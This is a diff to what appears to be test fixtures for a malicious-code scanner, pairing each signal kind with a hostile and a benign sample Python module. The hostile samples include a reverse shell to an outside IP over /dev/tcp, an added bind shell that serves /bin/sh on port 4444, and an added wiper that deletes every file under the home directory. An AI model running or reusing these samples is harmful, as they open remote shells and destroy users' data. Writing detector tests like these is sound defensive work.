@@ -191,6 +191,29 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
         module("import os\nos.system('bash -i >& /dev/tcp/93.184.216.34/4444 0>&1')\n"),
         module("import subprocess\nsubprocess.run(['bash', '-c', 'echo hi'])\n"),
     ),
+    SignalKind.BIND_SHELL: (
+        module(
+            "import os, pty, socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\n"
+            "s.listen(1)\nconn, _ = s.accept()\nfor fd in (0, 1, 2):\n"
+            "    os.dup2(conn.fileno(), fd)\npty.spawn('/bin/sh')\n"
+        ),
+        module(
+            "import socket, subprocess\ns = socket.create_server(('0.0.0.0', 8000))\n"
+            "conn, _ = s.accept()\nconn.sendall(b'hello')\n"
+            "subprocess.run(['/bin/sh', '-c', 'make docs'])\n"
+        ),
+    ),
+    SignalKind.WIPER: (
+        module(
+            "import os\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n"
+            "    for name in files:\n        os.remove(os.path.join(root, name))\n"
+        ),
+        module(
+            "import os, shutil\nfor root, dirs, files in os.walk('build'):\n"
+            "    for name in files:\n        os.remove(os.path.join(root, name))\n"
+            "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'pkg'))\n"
+        ),
+    ),
     SignalKind.DOWNLOAD_EXEC: (
         module(
             "import os, subprocess, urllib.request\n"
